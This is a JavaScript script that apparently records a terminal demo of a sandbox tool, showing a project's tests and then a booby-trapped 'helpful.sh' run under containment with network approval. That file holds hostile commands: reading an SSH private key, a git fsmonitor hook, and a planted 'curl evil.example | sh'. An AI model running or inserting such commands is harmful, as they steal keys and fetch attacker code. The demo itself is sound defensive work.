// What happens in the recording. It runs in a namespace with a home of its own at /home/ada (scripts/record), and all of
// it is real: the project, the sandboxes, the server that answers at rates.example.
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Terminal } from './terminal.mjs';

const home = '/home/ada';
const project = join(home, 'shop');
const prompt = '~/shop $';
const inside = '(sandbox) $';
/** An address of this namespace's own loopback; the filter lets nobody to those that settings do not name. */
const rates = '10.4.0.1';

const files = {
  'shop/cart.py': 'def total(prices, discount=0):\n    return round(sum(prices) * (1 - discount), 2)\n',
  'shop/test_cart.py': `import unittest
from cart import total

class Cart(unittest.TestCase):
    def test_total(self):
        self.assertEqual(total([1.5, 2]), 3.5)

    def test_discount(self):
        self.assertEqual(total([10], discount=0.1), 9)
`,
  'shop/helpful.sh': `set -x
cat ~/.ssh/id_ed25519
git config core.fsmonitor ./pwn
echo 'curl evil.example | sh' >.envrc
curl -sS https://evil.example
`,
  '.ssh/id_ed25519': 'a key\n',
  '.config/sidecar/config.yaml': `network:\n  hosts: { rates.example: ${rates} }\nenv:\n  set: { PS1: "${inside} " }\n`,
  '.record/tmux.conf': `set -g status off
set -g default-terminal tmux-256color
set -g escape-time 0
set -g pane-border-style fg=colour240
set -g pane-active-border-style fg=colour240
set -g remain-on-exit off
`,
  '.record/bashrc': `PS1='\\[\\e[0;32m\\]~/shop\\[\\e[0m\\] \\[\\e[90m\\]$\\[\\e[0m\\] \\[\\e[1m\\]'
PS0='\\e[0m'
bind 'set enable-bracketed-paste off'
bind 'set colored-stats off'
unset HISTFILE
`,
};

const environment = {
  HOME: home, PATH: process.env.PATH, TERM: 'xterm-256color', LANG: 'C.UTF-8', SHELL: '/bin/bash', GIT_CONFIG_NOSYSTEM: '1', PYTHONDONTWRITEBYTECODE: '1',
};

function prepare() {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(home, name)), { recursive: true });
    writeFileSync(join(home, name), text);
  }
  const git = (...args) => execFileSync('git', args, { cwd: project, env: environment, stdio: ['ignore', 'ignore', 'inherit'] });
  git('init', '-q', '-b', 'main');
  git('config', '--global', 'user.name', 'Ada');
  git('config', '--global', 'user.email', 'ada@example.com');
  git('add', '.');
  git('commit', '-qm', 'The shop');
  process.chdir(project);
}

async function service() {
  const server = createServer((_, answer) => answer.end('{"EUR/USD": 1.09}\n'));
  await new Promise((done) => { server.listen(80, rates, done); });
  return server;
}

/** The recording: the events of the whole, and how long it lasts. */
export async function play() {
  prepare();
  const server = await service();
  const t = new Terminal(prompt, environment, join(home, '.record'));
  try {
    await act(t);
    return { events: t.events, seconds: t.seconds };
  } finally {
    execFileSync('sidecar', ['--workspace', project, 'stop'], { env: environment, stdio: 'ignore' });
    await t.end();
    server.close();
  }
}

async function act(t) {
  await t.command('sidecar run -- python3 -m unittest');
  t.pause(2.2);
  await t.command('cat helpful.sh');
  t.pause(2.5);
  await t.command('sidecar run helpful.sh');
  t.pause(6);
  await clear(t);
  await approval(t);
  await t.command('sidecar runs');
  t.pause(5);
}

async function clear(t) {
  t.press('\x0c');
  await t.until((lines) => lines.filter(Boolean).length === 1, 'a clear screen');
}

/** A session above, and beneath it the person, who is asked. */
async function approval(t) {
  const shell = ['bash', '--noprofile', '--rcfile', join(home, '.record/bashrc')];
  t.tmux('split-window', '-v', '-l', '9', ...shell);
  await t.until((lines, line) => line === prompt && lines.filter((l) => l === prompt).length === 2, 'a second shell');
  await t.type('sidecar approve');
  await t.shows('waiting for what runs ask');
  t.pause(1);
  t.tmux('select-pane', '-t', '0');
  await t.until((lines, line) => line === prompt && line === lines[0], 'the first shell');
  await t.type('sidecar exec --allow-domain pypi.org -- bash');
  await t.until((_, line) => line === inside, 'the shell inside');
  await t.type('curl http://rates.example/eur');
  await t.shows('[y] once');
  t.pause(2);
  t.tmux('select-pane', '-t', '1');
  await t.until((_, line) => line.includes('[y] once'), 'the question');
  await t.type('y');
  await t.shows('EUR/USD');
  t.pause(2.5);
  t.press('\x03');
  await t.command('sidecar status');
  t.pause(3);
  t.tmux('kill-pane', '-t', '1');
  await t.until((_, line) => line === inside, 'the shell inside');
  await t.type('exit');
  await t.ready();
}
